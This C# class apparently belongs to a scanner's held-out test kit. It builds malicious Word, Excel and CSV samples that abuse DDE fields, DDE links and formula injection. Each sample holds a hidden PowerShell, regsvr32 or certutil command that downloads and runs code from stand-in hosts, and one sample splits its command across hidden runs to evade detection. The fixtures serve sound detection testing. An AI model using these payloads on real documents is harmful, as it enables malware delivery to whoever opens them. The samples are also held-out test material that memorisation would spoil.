using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Documents whose fields or links start a program through DDE.</summary>
public sealed class DynamicDataExchange : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("SEC_filing_update.docx", Word(P("Securities and Exchange Commission - EDGAR filings update") + "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell -NoP -sta -NonI -W Hidden $e=(New-Object System.Net.WebClient).DownloadString('http://192.0.2.10/edgar.ps1');powershell -e $e\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>!Unexpected End of Formula</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"));
        yield return ("Price list.xlsx", Excel([("Prices", "visible", "<row r=\"1\"><c r=\"A1\"><f>[1]!'!A0'</f><v>0</v></c></row>")], [new Link("externalLink", "externalLinks/externalLink1.xml")],
            [("xl/externalLinks/externalLink1.xml", EighthForms.Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c powershell.exe -w hidden $e=(New-Object System.Net.WebClient).DownloadString(&quot;http://stat-price.example/evil.ps1&quot;);IEX $e\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>"))]));
        var command = "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe";
        yield return ("Team building.docx", Word(P("Programme of the day") + "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + string.Concat(new[] { "D", "DE", " ", command.Replace("\\", "\\\\", StringComparison.Ordinal), " \"-NoP -w 1 -c i", "e", "x(iw", "r team-days.example/d)\"", " \"for security reasons\"" }.Select(piece => $"<w:r><w:rPr><w:vanish/></w:rPr><w:instrText xml:space=\"preserve\">{piece}</w:instrText></w:r>")) + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", settings: "<w:updateFields w:val=\"true\"/>"));
        yield return ("contacts_export.csv", EighthForms.Dos("Name,E-mail,Phone,Remark\nAnna Berg,anna.berg@example.com,+46 8 555 0100,\n\"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://contacts-sync.example/c.sct scrobj.dll'!_xlbgnm.A1\",jan@example.com,,\n\"+thespanishinquisition(cmd|'/c certutil -urlcache -split -f http://contacts-sync.example/s.exe %TMP%\\s.exe & %TMP%\\s.exe'!A\",x@example.com,,\nOlaf Lind,olaf.lind@example.com,+46 8 555 0101,\n"));
    }
}
